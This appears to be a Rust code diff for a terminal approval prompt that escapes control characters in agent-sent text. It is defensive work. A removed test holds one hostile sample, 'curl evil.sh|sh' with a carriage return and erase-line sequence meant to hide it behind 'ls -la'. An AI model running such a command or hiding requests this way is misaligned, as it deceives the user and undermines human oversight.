@@ -12,6 +12,7 @@ use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, mpsc as std_mpsc};
 use std::time::{Duration, Instant};
 
+use crate::escape;
 use crate::router::messages::{self, Lang};
 
 const FRAMES: [char; 10] = ['⠋', '⠙', '⠹', '⠸', '⠼', '⠴', '⠦', '⠧', '⠇', '⠏'];
@@ -58,11 +59,11 @@ impl Activity {
                     .collect();
                 let skip = joined.chars().count().saturating_sub(ACTIVITY_CHARS);
                 doing.tail = joined.chars().skip(skip).collect();
-                doing.line = format!("\u{2026}{}", doing.tail);
+                doing.line = format!("\u{2026}{}", escape::line(&doing.tail));
             }
             Progress::Tool { name, title } => {
                 let what = if title.is_empty() { name } else { title };
-                doing.line = format!("tool: {}", printable(what));
+                doing.line = format!("tool: {}", escape::line(what));
             }
             Progress::Rewritten | Progress::Activity => {}
         }
@@ -220,7 +221,9 @@ impl Prompter {
         let wait = wait.saturating_sub(started.elapsed());
         while lines.try_recv().is_ok() {} // typed before the question: not an answer
         stdin.asking.store(true, Ordering::SeqCst);
-        let (who, what) = (printable(who), printable(what));
+        // What an agent sends must not move the cursor or erase the line
+        // the user is asked to judge.
+        let (who, what) = (escape::line(who), escape::line(what));
         self.print(format!(
             "\n[clawbot_router] {who} wants to run on this machine:\n    {what}\n  Allow [o]nce, allow [a]lways, or [d]eny? "
         ));
@@ -253,47 +256,5 @@ impl Prompter {
 
     fn print(&self, text: String) {
         let _ = self.say.send(text);
-    }
-}
-
-/// An assistant's text for the terminal: line breaks and tabs kept, every
-/// other control character escaped (a stream must not drive the terminal).
-pub fn printable_text(text: &str) -> String {
-    text.split('\n')
-        .map(|line| {
-            line.split('\t')
-                .map(printable)
-                .collect::<Vec<_>>()
-                .join("\t")
-        })
-        .collect::<Vec<_>>()
-        .join("\n")
-}
-
-/// `text` with every control character escaped: what an agent sends must
-/// not move the cursor or erase the line the user is asked to judge.
-pub fn printable(text: &str) -> String {
-    text.chars()
-        .flat_map(|c| {
-            if c.is_control() {
-                c.escape_default().collect::<Vec<_>>()
-            } else {
-                vec![c]
-            }
-        })
-        .collect()
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn control_characters_cannot_hide_part_of_a_question() {
-        assert_eq!(
-            printable("curl evil.sh|sh\r\u{1b}[2Kls -la"),
-            "curl evil.sh|sh\\r\\u{1b}[2Kls -la"
-        );
-        assert_eq!(printable("中文 ok"), "中文 ok");
     }
 }
